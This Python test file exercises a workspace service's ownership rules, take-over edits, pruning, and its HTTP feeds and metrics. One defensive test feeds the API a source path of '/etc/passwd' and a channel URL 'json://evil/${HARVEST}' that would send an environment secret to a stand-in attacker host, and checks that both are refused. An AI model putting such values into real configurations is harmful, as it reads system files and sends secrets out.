"""Who owns what, edited and taken back alike through the folder and over HTTP; feeds and metrics stand beside it."""

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from service.workspace import ConflictError, NotFoundError, Workspace, WorkspaceError
from tests.contract.test_operator_only import CHANNEL
from tests.contract.test_workspace_contract import DECLARATION, Owner, opened
from tests.support.source_home import MODEL, source


@pytest.fixture(params=["local", "remote"])
def declared(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Workspace]:
    with opened(request.param, tmp_path / "home") as workspace:
        workspace.apply(DECLARATION)
        yield workspace


@pytest.fixture
def owner(tmp_path: Path) -> Iterator[Owner]:
    running = Owner(tmp_path / "home")
    try:
        yield running
    finally:
        running.stop()


def test_everything_has_one_owner(declared: Workspace) -> None:
    found = {(each["kind"], each["name"]): each for each in declared.declared()}
    assert {key: each["declared_in"] for key, each in found.items()} == {
        ("model", "eta"): "file",
        ("channel", "team"): "file",
    }
    assert found["model", "eta"]["values"]["features"] == {"distance": "numeric", "city name": "categorical"}
    assert '"city name" = "categorical"' in found["model", "eta"]["toml"]


def test_what_is_taken_over_is_edited_and_the_file_is_told(declared: Workspace) -> None:
    changes = {"monitor.alert_budget.pages_per_year": 3, 'units."city name"': "town", "owner": None}
    with pytest.raises(ConflictError, match=r"models.eta is owned by a file"):
        declared.edit("model", "eta", changes)
    made = declared.edit("model", "eta", changes, take_over=True)
    assert (made["declared_in"], made["actor"]) == ("dashboard", "cli")
    assert made["values"]["monitor"]["alert_budget"] == {"pages_per_year": 3.0}
    assert made["values"]["units"] == {"city name": "town"}
    with pytest.raises(ConflictError, match=r"models.eta was changed in the dashboard by cli"):
        declared.apply(DECLARATION)
    assert declared.apply(DECLARATION, take_over=True)["changed"] == ["models.eta"]


def test_an_edit_is_refused_in_the_words_of_a_file(declared: Workspace) -> None:
    with pytest.raises(WorkspaceError, match=r"^models.eta.monitor.tolernce: .* did you mean 'tolerance'"):
        declared.edit("models", "eta", {"monitor.tolernce": 1}, take_over=True)
    with pytest.raises(NotFoundError, match="nothing is declared as 'table'"):
        declared.edit("table", "eta", {})


def test_things_are_made_and_taken_back(declared: Workspace) -> None:
    declared.edit("maintenance", "night", {"schedule": "0 2 * * *", "lasts": "90m"})
    assert declared.export().endswith('[maintenance.night]\nschedule = "0 2 * * *"\nlasts = "90m"\n')
    declared.remove("maintenance", "night")
    assert "night" not in declared.export()
    with pytest.raises(NotFoundError, match=r"there is no maintenance.night"):
        declared.remove("maintenance", "night")
    with pytest.raises(ConflictError, match=r"channels.team is owned by a file"):
        declared.remove("channel", "team")
    declared.remove("channel", "team", take_over=True)
    assert "team" not in declared.export()


def test_what_vanished_goes_when_asked(declared: Workspace) -> None:
    other = '[channels.other]\nurl = "json://127.0.0.1/y"\n'
    assert "removed" not in declared.apply(other)
    assert declared.apply(other, prune=True)["removed"] == ["channels.team"]


def test_over_http_nobody_edits_what_reaches_files_and_secrets(owner: Owner, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HARVEST", "s3cret-value")
    owner.workspace.apply(MODEL + source("y", read="/data/*.csv") + CHANNEL.format(name="theirs", path="${HARVEST}"))
    with httpx.Client(base_url=f"{owner.url}/api/v1", headers={"authorization": "Bearer sesame"}) as http:
        for kind, name, changes in (
            ("source", "y", {"read": "/etc/passwd"}),
            ("sources", "new", {"model": "eta", "read": "/etc/passwd"}),
            ("channel", "theirs", {"url": "json://evil/${HARVEST}"}),
        ):
            answer = http.patch(f"/declared/{kind}/{name}", json={"changes": changes, "take_over": True})
            assert answer.status_code == 422, (kind, answer.text)
            assert "command line" in answer.json()["error"]
        assert http.delete("/declared/source/y", params={"take_over": "1"}).status_code == 422
        assert "s3cret-value" not in http.get("/declared").text
        plain = http.patch("/declared/channel/plain", json={"changes": {"url": "json://127.0.0.1/x"}})
        assert (plain.status_code, plain.json()["actor"].partition("@")[0]) == (200, "token")
        assert http.patch("/declared/channel/plain", json={"changes": {}, "more": 1}).status_code == 422
        assert http.delete("/declared/channel/plain").status_code == 204
    assert owner.workspace.core.source("y").read == "/data/*.csv"


@pytest.mark.slow
def test_feeds_and_metrics_of_a_real_home_answer(owner: Owner) -> None:
    owner.workspace.apply(DECLARATION)
    owner.workspace.edit("maintenance", "night", {"schedule": "0 2 * * *"})
    with httpx.Client(base_url=owner.url, auth=("feed", "sesame")) as http:
        assert http.get("/api/v1/feeds/alerts.json").json()["items"] == []
        assert http.get("/api/v1/feeds/alerts.json", params={"model": "nobody"}).status_code == 404
        assert b"<feed" in http.get("/api/v1/feeds/alerts.atom").content
        calendar = http.get("/api/v1/feeds/schedule.ics").content
        assert calendar.count(b"BEGIN:VEVENT") == 14
        assert b"SUMMARY:maintenance night" in calendar
        assert 'driftdeck_model_health{model="eta",health="no_data"} 1.0' in http.get("/metrics").text
